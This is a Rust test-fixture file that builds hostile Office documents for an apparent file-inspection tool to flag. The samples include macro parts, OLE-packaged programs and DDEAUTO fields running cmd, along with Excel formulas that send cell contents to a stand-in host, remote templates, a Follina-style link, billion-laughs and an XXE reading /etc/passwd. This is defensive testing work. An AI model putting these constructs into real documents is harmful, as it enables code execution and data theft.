//! Word, Excel and PowerPoint since 2007.

use domain::{
    files::FileKind::{Docx, Pptx, Xlsx},
    inspection::{Cause, Impossibility, Oddity},
};

use super::{Hostile, held, impossible, odd};
use crate::testing::{
    compound::{compound, excel, packed_file, sheet},
    office::{Office, field, paragraph},
};

const DOCUMENT: &str = "word/document.xml";
const BOOK: &str = "xl/workbook.xml";
const SLIDE: &str = "ppt/slides/slide1.xml";
const MS: &str = "http://schemas.microsoft.com/office/2006/relationships/";

fn word() -> Office {
    Office::word(&paragraph("Kế hoạch tuần 12"))
}

fn with_relation(kind: &str, target: &str) -> Vec<u8> {
    word().related(DOCUMENT, kind, target, true).bytes()
}

fn with_field(pieces: &[&str]) -> Vec<u8> {
    Office::word(&field(pieces, "12")).bytes()
}

fn with_formula(formula: &str) -> Vec<u8> {
    Office::excel(&format!(r#"<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>"#)).bytes()
}

fn with_part(name: &str, bytes: impl Into<Vec<u8>>) -> Vec<u8> {
    word().with(name, bytes).bytes()
}

fn program() -> Vec<u8> {
    let mut bytes = b"MZ\x90\0".to_vec();
    bytes.resize(60, 0);
    bytes.extend([0x80, 0, 0, 0]);
    bytes.extend(b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$");
    bytes.resize(0x80, 0);
    bytes.extend(b"PE\0\0");
    bytes.resize(2000, 1);
    bytes
}

fn native(content: &[u8]) -> Vec<u8> {
    compound(&[("/\u{1}Ole10Native", content), ("/\u{1}CompObj", &[0; 100])])
}

pub fn all() -> Vec<Hostile> {
    let macros = compound(&[("/VBA/dir", b"x"), ("/VBA/ThisDocument", b"x"), ("/PROJECT", b"x")]);
    let embedded = "word/embeddings/oleObject1.bin";
    let macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let nested_field = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
    let entities =
        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><x>&c;</x>";
    let wide_entities: Vec<u8> = entities.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let fetching = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><x>&f;</x>";
    let parameter = "<!DOCTYPE x SYSTEM \"http://x.vn/x.dtd\"><x/>";
    let click = |action: &str| {
        format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="Nút"><a:hlinkClick r:id="rId1" action="{action}"/></p:cNvPr></p:nvSpPr></p:sp>"#
        )
    };
    let main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let two = word().typed("xl/workbook.xml", main, "<workbook/>").bytes();
    vec![
        held("docm", Docx, word().typed("word/document.xml", macro_main, "<w:document/>").bytes(), Cause::Macros),
        held("vbaProject in a docx", Docx, with_part("word/vbaProject.bin", macros.clone()), Cause::Macros),
        held("vbaProject under another name", Docx, with_part("word/media/image1.png", macros.clone()), Cause::Macros),
        held(
            "vbaProject by its type",
            Docx,
            word().typed("word/a.bin", "application/vnd.ms-office.vbaProject", "x").bytes(),
            Cause::Macros,
        ),
        held(
            "vbaProject by its relation",
            Docx,
            word().related(DOCUMENT, &format!("{MS}vbaProject"), "a.bin", false).bytes(),
            Cause::Macros,
        ),
        held(
            "xlsm named xlsx",
            Xlsx,
            Office::excel("").typed("xl/x.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "<x/>").bytes(),
            Cause::Macros,
        ),
        held("pptm named pptx", Pptx, Office::power_point("").with("ppt/vbaProject.bin", macros.clone()).bytes(), Cause::Macros),
        held(
            "a sheet of Excel 4",
            Xlsx,
            Office::excel("").with("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>").bytes(),
            Cause::MacroSheet,
        ),
        held(
            "a sheet of Excel 4 by its type",
            Xlsx,
            Office::excel("").typed("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.intlmacrosheet+xml", "<x/>").bytes(),
            Cause::MacroSheet,
        ),
        held(
            "a sheet of Excel 4 by its relation",
            Xlsx,
            Office::excel("").related(BOOK, &format!("{MS}xlMacrosheet"), "worksheets/sheet2.xml", false).bytes(),
            Cause::MacroSheet,
        ),
        held("ActiveX in Word", Docx, with_part("word/activeX/activeX1.xml", "<ax:ocx/>"), Cause::ActiveX),
        held(
            "ActiveX in Excel by its type",
            Xlsx,
            Office::excel("").typed("xl/a.xml", "application/vnd.ms-office.activeX+xml", "<x/>").bytes(),
            Cause::ActiveX,
        ),
        held("ActiveX by its relation", Docx, word().related(DOCUMENT, "control", "activeX1.xml", false).bytes(), Cause::ActiveX),
        held(
            "an object of the web browser",
            Docx,
            Office::word(r#"<w:object><o:OLEObject Type="Embed" ProgID="Shell.Explorer.1" r:id="rId1"/></w:object>"#).bytes(),
            Cause::ActiveX,
        ),
        held(
            "an OLE package with a program",
            Docx,
            with_part(embedded, native(&packed_file("tro-choi.exe", &program()))),
            Cause::PackedFile,
        ),
        held(
            "an OLE package with a script",
            Pptx,
            Office::power_point("").with("ppt/embeddings/oleObject1.bin", native(&packed_file("a.vbs", b"x"))).bytes(),
            Cause::PackedFile,
        ),
        held(
            "an OLE package by its name",
            Docx,
            Office::word(r#"<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object>"#).bytes(),
            Cause::PackedFile,
        ),
        held(
            "an OLE package in an embedded sheet",
            Docx,
            with_part(
                "word/embeddings/a.xlsx",
                Office::excel("").with("xl/embeddings/oleObject1.bin", native(b"\0\0\0\0\x02\0a")).bytes(),
            ),
            Cause::PackedFile,
        ),
        held("a field EMBED Package", Docx, with_field(&[" EMBED Package "]), Cause::PackedFile),
        held("a program as a part", Docx, with_part("word/media/image9.emf", program()), Cause::ProgramInside),
        held("a program by its name", Docx, with_part("word/embeddings/cai-dat.exe", "x"), Cause::ProgramInside),
        held("a Linux program as a part", Docx, with_part("word/media/a.bin", &b"\x7fELF\x02\x01\x01\0"[..]), Cause::ProgramInside),
        held(
            "macros in an embedded document",
            Docx,
            with_part("word/embeddings/a.docx", word().with("word/vbaProject.bin", macros.clone()).bytes()),
            Cause::Macros,
        ),
        held(
            "macros in an embedded old sheet",
            Docx,
            with_part(embedded, excel(&[], &[("/_VBA_PROJECT_CUR/VBA/dir", b"x")])),
            Cause::Macros,
        ),
        held(
            "macro sheet in an embedded old sheet",
            Docx,
            with_part(embedded, excel(&[(0x85, &sheet(1))], &[])),
            Cause::MacroSheet,
        ),
        held("DDE", Docx, with_field(&[r" DDE excel &quot;C:\\a.xlsx&quot; "]), Cause::DdeField),
        held("DDEAUTO", Docx, with_field(&[r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot; "]), Cause::DdeField),
        held("DDE over several runs", Docx, with_field(&["D", "D", "EAUTO", " cmd "]), Cause::DdeField),
        held("DDE with letters by number", Docx, with_field(&["&#68;D&#x45;AUTO cmd"]), Cause::DdeField),
        held("DDE after many blanks", Docx, with_field(&[&" ".repeat(9000), "DDEAUTO cmd"]), Cause::DdeField),
        held(
            "DDE in a simple field",
            Docx,
            Office::word(r#"<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p>"#).bytes(),
            Cause::DdeField,
        ),
        held("DDE by QUOTE", Docx, Office::word(nested_field).bytes(), Cause::DdeField),
        held(
            "DDE in a header",
            Docx,
            word().with("word/header1.xml", format!("<w:hdr xmlns:w=\"x\">{}</w:hdr>", field(&["DDEAUTO cmd"], ""))).bytes(),
            Cause::DdeField,
        ),
        held(
            "DDE in UTF-16",
            Docx,
            with_part(
                "word/footer1.xml",
                format!("<w:ftr xmlns:w=\"x\">{}</w:ftr>", field(&["DDEAUTO cmd"], ""))
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<u8>>(),
            ),
            Cause::DdeField,
        ),
        held("DDE in a formula", Xlsx, with_formula("cmd|'/C calc'!A0"), Cause::DdeField),
        held("DDE in a quoted formula", Xlsx, with_formula("'cmd'|'/C calc'!A0"), Cause::DdeField),
        held(
            "DDE as a link of Excel",
            Xlsx,
            Office::excel("")
                .with(
                    "xl/externalLinks/externalLink1.xml",
                    r#"<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#,
                )
                .bytes(),
            Cause::DdeField,
        ),
        held("WEBSERVICE", Xlsx, with_formula("WEBSERVICE(&quot;http://x.vn/&quot;&amp;A1)"), Cause::LoadsFromElsewhere),
        held("RTD", Xlsx, with_formula("RTD(&quot;x.server&quot;,,&quot;a&quot;)"), Cause::DdeField),
        held("a library called by a formula", Xlsx, with_formula("CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;)"), Cause::DdeField),
        held("REGISTER", Xlsx, with_formula("REGISTER.ID(&quot;urlmon&quot;,&quot;a&quot;)"), Cause::DdeField),
        held(
            "a picture that takes cells along",
            Xlsx,
            with_formula("_xlfn.IMAGE(&quot;https://x.vn/?&quot;&amp;A1)"),
            Cause::LoadsFromElsewhere,
        ),
        odd("a picture by a formula", Xlsx, with_formula("_xlfn.IMAGE(&quot;https://x.vn/a.png&quot;)"), Oddity::LoadsFromWeb),
        held(
            "an address in pieces",
            Xlsx,
            with_formula("HYPERLINK(&quot;\\\\&quot;&amp;&quot;10.0.0.9\\a&quot;,&quot;Xem&quot;)"),
            Cause::ProgramLink,
        ),
        held(
            "an address in a cell",
            Xlsx,
            Office::excel(
                r#"<row r="1"><c r="A1"><f>HYPERLINK(B1)</f></c><c r="B1" t="inlineStr"><is><r><t>\\10.0</t></r><r><t>.0.9\a</t></r></is></c></row>"#,
            )
            .bytes(),
            Cause::ProgramLink,
        ),
        held("a place on another machine", Xlsx, with_formula("SUM('\\\\10.0.0.9\\a\\[b.xlsx]S'!A1)"), Cause::LoadsFromElsewhere),
        held(
            "data that refresh on opening",
            Xlsx,
            Office::excel("")
                .with(
                    "xl/connections.xml",
                    r#"<connections><connection id="1" refreshOnLoad="1"><webPr url="http://x.vn"/></connection></connections>"#,
                )
                .bytes(),
            Cause::LoadsFromElsewhere,
        ),
        held(
            "a template on the web",
            Docx,
            word().related("word/settings.xml", "attachedTemplate", "https://x.vn/mau.dotm", true).bytes(),
            Cause::RemoteTemplate,
        ),
        held(
            "a template on another machine",
            Docx,
            word().related("word/settings.xml", "attachedTemplate", r"\\10.0.0.9\mau\a.dotx", true).bytes(),
            Cause::RemoteTemplate,
        ),
        held(
            "a template on another machine as file:",
            Docx,
            word().related("word/settings.xml", "attachedTemplate", "file://10.0.0.9/mau/a.dotx", true).bytes(),
            Cause::RemoteTemplate,
        ),
        held("an object on the web", Docx, with_relation("oleObject", "http://x.vn/a.hta?x=1!"), Cause::ProgramLink),
        held("an object on the web, Follina", Docx, with_relation("oleObject", "https://x.vn/a.html!"), Cause::LoadsFromElsewhere),
        held(
            "a frame on the web",
            Docx,
            word().related("word/webSettings.xml", "frame", "http://x.vn/khung.htm", true).bytes(),
            Cause::LoadsFromElsewhere,
        ),
        held(
            "a subdocument on another machine",
            Docx,
            with_relation("subDocument", r"\\may-chu\chung\a.docx"),
            Cause::LoadsFromElsewhere,
        ),
        held("a picture on another machine", Docx, with_relation("image", "file://10.0.0.9/a.png"), Cause::LoadsFromElsewhere),
        held("content from the web as a part", Docx, with_relation("aFChunk", "http://x.vn/a.rtf"), Cause::LoadsFromElsewhere),
        held(
            "a web add-in",
            Docx,
            with_part("word/webextensions/webextension1.xml", "<we:webextension/>"),
            Cause::LoadsFromElsewhere,
        ),
        held(
            "INCLUDETEXT from the web",
            Docx,
            with_field(&[" INCLUDETEXT &quot;http://x.vn/a.docx&quot; "]),
            Cause::LoadsFromElsewhere,
        ),
        held(
            "a book on another machine",
            Xlsx,
            Office::excel("")
                .related("xl/externalLinks/externalLink1.xml", "externalLinkPath", r"file:///\\10.0.0.9\a.xlsx", true)
                .bytes(),
            Cause::LoadsFromElsewhere,
        ),
        held("a link to a program", Docx, with_relation("hyperlink", "file:///C:/Windows/System32/calc.exe"), Cause::ProgramLink),
        held("a link to another machine", Docx, with_relation("hyperlink", r"\\192.168.1.9\chung\a.docx"), Cause::ProgramLink),
        held(
            "a link to a shortcut",
            Pptx,
            Office::power_point("").related(SLIDE, "hyperlink", "tro-choi.lnk", true).bytes(),
            Cause::ProgramLink,
        ),
        held(
            "a link with an address that starts a program",
            Docx,
            with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
            Cause::ProgramLink,
        ),
        held(
            "a link to a program on the web",
            Docx,
            with_relation("hyperlink", "https://x.vn/flash-player.exe"),
            Cause::ProgramLink,
        ),
        held("a link with percent signs", Docx, with_relation("hyperlink", "file:///C:/Windows/calc%2Eexe"), Cause::ProgramLink),
        held("a field HYPERLINK to a script", Docx, with_field(&[" HYPERLINK &quot;C:\\\\a.vbs&quot; "]), Cause::ProgramLink),
        held(
            "a formula HYPERLINK to a program",
            Xlsx,
            with_formula("HYPERLINK(&quot;C:\\a.bat&quot;,&quot;Xem&quot;)"),
            Cause::ProgramLink,
        ),
        held(
            "a button that runs a program",
            Pptx,
            Office::power_point(&click("ppaction://program")).related(SLIDE, "hyperlink", "tro-choi", true).bytes(),
            Cause::ProgramLink,
        ),
        held(
            "a drawing that links to another machine",
            Docx,
            Office::word(r#"<w:pict><v:shape href="file://10.0.0.9/a"/></w:pict>"#).bytes(),
            Cause::ProgramLink,
        ),
        held(
            "a page with a script as a part",
            Docx,
            with_part("word/afchunk.htm", "<html><body><script>alert(1)</script></body></html>"),
            Cause::WebPage,
        ),
        held(
            "rich text with an object as a part",
            Docx,
            with_part("word/afchunk.rtf", r"{\rtf1{\object\objdata 0105}}"),
            Cause::PackedFile,
        ),
        held(
            "letters that nobody reads",
            Docx,
            with_part("word/header1.xml", "<?xml version=\"1.0\" encoding=\"utf-7\"?><x/>"),
            Cause::Unreadable,
        ),
        held("a sheet named docx", Docx, Office::excel("").bytes(), Cause::OtherKind),
        impossible("billion laughs", Docx, with_part("word/document.xml", entities), Impossibility::OwnEntities),
        impossible("billion laughs in UTF-16", Docx, with_part("word/document.xml", wide_entities), Impossibility::OwnEntities),
        impossible("XXE", Xlsx, Office::excel("").with("xl/sharedStrings.xml", fetching).bytes(), Impossibility::OwnEntities),
        impossible(
            "a document type from the web",
            Docx,
            with_part("word/_rels/document.xml.rels", parameter),
            Impossibility::OwnEntities,
        ),
        impossible("entities in the list of types", Docx, with_part("[Content_Types].xml", entities), Impossibility::OwnEntities),
        impossible(
            "entities in an embedded sheet",
            Docx,
            with_part("word/embeddings/a.xlsx", Office::excel("").with("xl/a.xml", entities).bytes()),
            Impossibility::OwnEntities,
        ),
        odd("a picture that is fetched", Docx, with_relation("image", "https://x.vn/anh.jpg"), Oddity::LoadsFromWeb),
        odd(
            "a film that is fetched",
            Pptx,
            Office::power_point("").related(SLIDE, "video", "https://www.youtube.com/embed/abc", true).bytes(),
            Oddity::LoadsFromWeb,
        ),
        odd(
            "a film on the author's disk",
            Pptx,
            Office::power_point("").related(SLIDE, "video", "file:///D:\\phim\\mua.mp4", true).bytes(),
            Oddity::LeftOnOwnMachine,
        ),
        held("XML that is none", Docx, with_part("word/footnotes.xml", "<w:footnotes><w:footnote>"), Cause::Unreadable),
        held("a plan that is a sheet, too", Docx, two, Cause::TwoFormats),
    ]
}
